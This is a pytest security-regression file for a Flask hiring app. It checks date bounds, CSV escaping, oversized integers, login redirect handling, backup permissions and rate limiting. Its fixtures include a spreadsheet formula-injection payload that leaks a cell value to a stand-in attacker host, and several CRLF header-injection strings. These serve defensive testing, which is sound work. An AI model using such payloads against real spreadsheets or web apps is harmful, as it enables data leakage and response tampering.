"""Security findings from trying the product as an attacker, each reproduced first: far
dates, formulas in CSV headers, integers past 64 bits, line breaks in `next`, a reminder
for a cancelled interview, a backup readable by everyone."""

import os
import stat
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from hiring import create_app
from hiring.auth.models import Role, User
from hiring.extensions import db
from hiring.interviews.models import Interview
from hiring.mail import OutgoingMail
from hiring.timezones import local
from tests.scoring import make_panel

HUGE = 10**30


@pytest.mark.parametrize("when", ["0001-01-01T00:00", "9999-12-31T23:30", "1899-12-31T10:00"])
def test_far_dates_are_refused_on_input(app, client, login, users, make_question, when):
    panel = make_panel(app, make_question, [users["interviewer"]])
    login(users["manager"])
    response = client.post(
        f"/interviews/{panel.interview_id}/edit",
        data={"kit_version_id": panel.kit_version_id, "scheduled_at": when},
    )
    assert response.status_code == 422
    assert "between 1900 and 2200" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.get(Interview, panel.interview_id).scheduled_at.year not in (1, 9999)


def test_a_far_date_already_stored_never_fails_a_page(app, client, login, users, make_question):
    """Stored before the bound (or by a script): every page of a panelist in another zone
    still answers."""
    panel = make_panel(app, make_question, [users["interviewer"]])
    with app.app_context():
        interview = db.session.get(Interview, panel.interview_id)
        far = datetime(9999, 12, 31, 23, 30, tzinfo=UTC)
        interview.scheduled_at = far
        for scorecard in interview.scorecards:
            scorecard.scheduled_at = far
        db.session.get(User, users["interviewer"].id).time_zone = "Pacific/Kiritimati"
        db.session.commit()
    login(users["interviewer"])
    assert client.get("/").status_code == 200
    sid = panel.scorecards[users["interviewer"].id]
    assert client.get(f"/scorecards/{sid}").status_code == 200
    assert local(datetime(1, 1, 1, tzinfo=UTC), tz=None)  # says something, fails nothing


def test_every_csv_cell_is_escaped_headers_included(app, client, login, users, make_question):
    evil = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    qid = make_question("A formula question?", competencies=[evil])
    from tests.scoring import publish_kit

    with app.app_context():
        version = publish_kit("Formula kit", [qid])
        db.session.commit()
        kit_id = version.kit_id
    login(users["manager"])
    body = client.get(f"/kits/{kit_id}/compare.csv").get_data(as_text=True)
    header = body.lstrip("\ufeff").splitlines()[0]
    assert "=HYPERLINK" not in header.replace("'=HYPERLINK", "")
    assert "'=HYPERLINK" in header


@pytest.mark.parametrize(
    "url",
    [
        f"/calibration?kit={HUGE}",
        f"/calibration.pdf?kit={HUGE}",
        f"/interviews/new?candidate={HUGE}",
        f"/kits/1/compare?kit={HUGE}",
        f"/reports/funnel?opening={HUGE}",
    ],
)
def test_integers_past_64_bits_in_query_strings(app, client, login, users, url):
    login(users["manager"])
    assert client.get(url).status_code < 500


def test_integers_past_64_bits_in_forms(app, client, login, users, make_question):
    make_panel(app, make_question, [users["interviewer"]])
    login(users["manager"])
    response = client.post(
        "/interviews/new",
        data={
            "candidate_id": HUGE,
            "kit_version_id": HUGE,
            "panel": [HUGE],
            "scheduled_at": "2026-12-20T10:00",
        },
    )
    assert response.status_code == 422


@pytest.mark.parametrize("next_", ["/\r\nSet-Cookie: x=1", "/ok\nfoo", "/%0d%0aX: y"])
def test_line_breaks_in_next_are_refused(app, client, users, next_):
    response = client.post(
        "/login",
        data={"email": users["manager"].email, "password": "correct horse battery", "next": next_},
    )
    assert response.status_code == 302
    assert "\n" not in response.location and "\r" not in response.location
    assert "Set-Cookie: x" not in str(response.headers)


def test_no_reminder_for_a_cancelled_interview(app, client, login, users, make_question):
    panel = make_panel(app, make_question, [users["interviewer"]], hours_ago=72)
    login(users["manager"])
    client.post(f"/interviews/{panel.interview_id}/cancel", data={"reason": "Withdrew"})
    sid = panel.scorecards[users["interviewer"].id]
    response = client.post(f"/scorecards/{sid}/remind", follow_redirects=True)
    assert "cancelled" in response.get_data(as_text=True)
    with app.app_context():
        kinds = db.session.scalars(select(OutgoingMail.kind)).all()
    assert "reminder" not in kinds


def test_a_backup_is_readable_by_its_owner_only(tmp_path):
    """On its own SQLite database (backup copies SQLite files), whichever the suite's."""
    app = create_app(
        {
            "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'app.db'}",
            "SECRET_KEY": "x",
            "INSTANCE_PATH": str(tmp_path),
        }
    )
    with app.app_context():
        db.create_all()
        db.engine.dispose()
    target = tmp_path / "backup.db"
    result = app.test_cli_runner().invoke(args=["backup", str(target)])
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600


def test_unreachable_limit_storage_does_not_break_sign_in(app, users):
    """Redis for the limits is down: sign-in still answers (limited per worker, in
    memory, until the storage is back), and says nothing it should not."""
    broken = create_app(
        {
            **{k: app.config[k] for k in ("SQLALCHEMY_DATABASE_URI", "SECRET_KEY")},
            "INSTANCE_PATH": app.instance_path,
            "WTF_CSRF_ENABLED": False,
            "RATELIMIT_ENABLED": True,
            "RATELIMIT_STORAGE_URI": "redis://127.0.0.1:1/0",
        }
    )
    client = broken.test_client()
    try:
        wrong = client.post("/login", data={"email": users["manager"].email, "password": "no"})
        assert wrong.status_code == 401
        right = client.post(
            "/login", data={"email": users["manager"].email, "password": "correct horse battery"}
        )
        assert right.status_code == 302
    finally:
        with broken.app_context():  # its own pool: closed, not left to the collector
            db.engine.dispose()


def test_workers_share_the_sign_in_limits_by_default(app, users, tmp_path):
    """Two workers of one deployment (two apps on one instance folder, as `./scripts/serve`
    runs them) count one account's failed sign-ins together: the sixth is refused
    whichever worker answers, where each used to count its own."""
    workers = [
        create_app(
            {
                "SQLALCHEMY_DATABASE_URI": app.config["SQLALCHEMY_DATABASE_URI"],
                "SECRET_KEY": "x",
                "INSTANCE_PATH": str(tmp_path),
                "WTF_CSRF_ENABLED": False,
                "RATELIMIT_ENABLED": True,
                "RATELIMIT_STORAGE_URI": "",  # the default: shared by the instance's workers
                "LOGIN_RATE_LIMIT": "100 per minute",
            }
        )
        for _ in range(2)
    ]
    clients = [w.test_client() for w in workers]
    wrong = {"email": users["manager"].email, "password": "not the password"}
    try:
        answers = [clients[n % 2].post("/login", data=wrong).status_code for n in range(6)]
    finally:
        for worker in workers:  # their own pools: closed, not left to the collector
            with worker.app_context():
                db.engine.dispose()
    assert answers == [401, 401, 401, 401, 401, 429]


def test_failed_sign_ins_are_counted_not_each_written(app, users, make_user):
    """An unauthenticated client cannot grow the audit log one row per attempt: within
    an hour, repeats of a failure from one address for one e-mail are counted on the
    first row, shown on the audit page."""
    from hiring.audit.models import AuditEvent

    client = app.test_client()
    for _ in range(7):
        client.post("/login", data={"email": "nobody@example.com", "password": "guess"})
    client.post("/login", data={"email": "other@example.com", "password": "guess"})
    with app.app_context():
        rows = db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "user.login_failed")
        ).all()
        assert sorted(r.details["email"] for r in rows) == [
            "nobody@example.com",
            "other@example.com",
        ]
        repeats = {r.details["email"]: r.repeats for r in rows}
    assert repeats == {"nobody@example.com": 6, "other@example.com": 0}
    admin = make_user(Role.ADMIN)
    from tests.conftest import session_of

    with client.session_transaction() as sess:
        sess.update(session_of(admin))
    page = client.get("/admin/audit?action=user.login_failed").get_data(as_text=True)
    assert "and 6 more within the hour" in page
